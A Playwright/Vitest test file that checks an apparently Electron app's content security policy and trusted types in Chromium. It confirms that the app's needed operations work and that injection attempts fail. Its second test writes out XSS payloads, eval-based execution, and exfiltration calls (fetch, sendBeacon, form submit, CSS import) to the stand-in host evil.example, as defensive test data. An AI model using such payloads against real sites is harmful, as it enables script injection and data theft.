/** The content security policy and the trusted types together, in real Chromium, over what protocol.ts really serves. */
import { readFileSync, writeFileSync } from 'node:fs';
import { stripTypeScriptTypes } from 'node:module';
import { join } from 'node:path';
import { chromium, type Page } from 'playwright';
import { describe, expect, onTestFinished, test } from 'vitest';
import { origin } from '../../electron/identity';
import { serveRenderer } from '../../electron/protocol';
import { chromiumLaunchOptions } from '../support/chromium';
import { temporaryFolder } from './temporary-folder';

const trustedTypes = stripTypeScriptTypes(
  readFileSync(new URL('../../renderer/host/trusted-types.ts', import.meta.url), 'utf8'),
);

/** A page that does what `script` says. Chromium knows no app://, so each request is handed to the protocol by name. */
async function openPage(script: string): Promise<{ page: Page; asked: readonly string[] }> {
  const root = temporaryFolder();
  writeFileSync(
    join(root, 'index.html'),
    '<!doctype html><div id="root"></div><script type="module" src="/main.js"></script>',
  ); // prettier-ignore
  writeFileSync(join(root, 'trusted-types.js'), trustedTypes);
  writeFileSync(join(root, 'worker.js'), 'postMessage("works")');
  writeFileSync(join(root, 'loaded.js'), 'document.title = "loaded"');
  writeFileSync(join(root, 'main.js'), script);
  const serve = serveRenderer(root);
  const browser = await chromium.launch(chromiumLaunchOptions());
  onTestFinished(() => browser.close());
  const page = await browser.newPage();
  const asked: string[] = [];
  await page.route('**', async (route) => {
    const url = new URL(route.request().url());
    asked.push(url.href);
    if (url.host !== 'clientele') return route.abort();
    const response = await serve(new Request(`${origin}${url.pathname}${url.search}`));
    await route.fulfill({
      status: response.status,
      headers: Object.fromEntries(response.headers),
      body: Buffer.from(await response.arrayBuffer()),
    });
  });
  await page.goto('https://clientele/');
  await page.locator('html.ended').waitFor();
  return { page, asked };
}

/** Tries each in turn; what it came to is "done", or the name of the error. */
function attempts(tries: Readonly<Record<string, string>>): string {
  return `
    import { trustOnlyOurOwn } from '/trusted-types.js';
    trustOnlyOurOwn();
    window.ran = [];
    const element = (name) => document.getElementById('root').appendChild(document.createElement(name));
    const outcomes = {};
    const attempt = async (name, act) => {
      try { await act(); outcomes[name] = 'done'; } catch (error) { outcomes[name] = error.name; }
    };
    ${Object.entries(tries)
      .map(([name, act]) => `await attempt(${JSON.stringify(name)}, async () => { ${act} });`)
      .join('\n')}
    await new Promise((resolve) => setTimeout(resolve, 200));
    window.outcomes = outcomes;
    document.documentElement.className = 'ended';`;
}

describe('under the policy', () => {
  test('what the app needs works', async () => {
    const { page } = await openPage(
      attempts({
        'a style sheet as Mantine writes it': `element('style').innerHTML = ':root > p { --colour: #2B56A5 }';`,
        'a style attribute': `element('p').setAttribute('style', '--width: 10px; width: var(--width)');
          if (getComputedStyle(document.querySelector('p')).width !== '10px') throw new Error();`,
        'a worker of ours': `await new Promise((resolve, reject) => {
          const worker = new Worker(new URL('/worker.js', location.href), { type: 'module' });
          worker.onmessage = resolve; worker.onerror = reject; });`,
        'a module of ours, later': `await import('/loaded.js');`,
        'a picture made in memory': `const image = new Image(); image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
          await image.decode();`,
        'a file of ours, fetched': `if (!(await fetch('/loaded.js')).ok) throw new Error();`,
        'text set as text': `element('p').textContent = '<img src=x onerror=window.ran.push(1)>';`,
        'an emptied element': `document.getElementById('root').innerHTML = '';`,
      }),
    );
    const outcomes: unknown = await page.evaluate('window.outcomes');
    expect(new Set(Object.values(outcomes ?? {}))).toEqual(new Set(['done']));
    expect(await page.title()).toBe('loaded');
  });

  test('what an attack needs does not, and nothing leaves', async () => {
    const { page, asked } = await openPage(
      attempts({
        'markup with an element': `element('div').innerHTML = '<img src=x onerror="window.ran.push(1)">';`,
        'markup inserted': `document.body.insertAdjacentHTML('beforeend', '<svg onload="window.ran.push(2)">');`,
        'a frame of its own': `element('iframe').srcdoc = '<script>parent.ran.push(3)</' + 'script>';`,
        'a parsed document': `new DOMParser().parseFromString('<b>x</b>', 'text/html');`,
        'text as a script': `const script = document.createElement('script'); script.text = 'window.ran.push(4)';
          document.body.append(script);`,
        'text evaluated': `(0, eval)('window.ran.push(5)');`,
        'a function from text': `new Function('window.ran.push(6)')();`,
        'a foreign script': `const script = document.createElement('script'); script.src = 'https://evil.example/x.js';
          document.body.append(script);`,
        'a script from data': `const script = document.createElement('script'); script.src = 'data:text/javascript,window.ran.push(7)';
          document.body.append(script);`,
        'a worker from text': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));`,
        'a worker from afar': `new Worker('https://evil.example/x.js');`,
        'a policy of its own': `window.trustedTypes.createPolicy('mine', { createHTML: (text) => text });`,
        'a fetch to afar': `await fetch('https://evil.example/?secret');`,
      }),
    );
    const outcomes: unknown = await page.evaluate('window.outcomes');
    expect(Object.entries(outcomes ?? {}).filter(([, outcome]) => outcome === 'done')).toEqual([]);
    expect(await page.evaluate('window.ran')).toEqual([]);

    // These do not throw: they are refused without a word.
    await page.evaluate(`
      const link = document.createElement('a'); link.href = 'javascript:window.ran.push(8)'; document.body.append(link); link.click();
      const button = document.createElement('button'); document.body.append(button);
      const image = new Image(); image.src = 'https://evil.example/pixel.png'; document.body.append(image);
      const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame);
      const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit();
      navigator.sendBeacon('https://evil.example/', 'secret');
      const sheet = document.createElement('style'); sheet.textContent = '@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) }';
      document.head.append(sheet);`);
    await page.waitForTimeout(300);
    expect(await page.evaluate('window.ran')).toEqual([]);
    expect(asked.filter((address) => !address.startsWith('https://clientele/'))).toEqual([]);
    expect(page.url()).toBe('https://clientele/');
  });
});
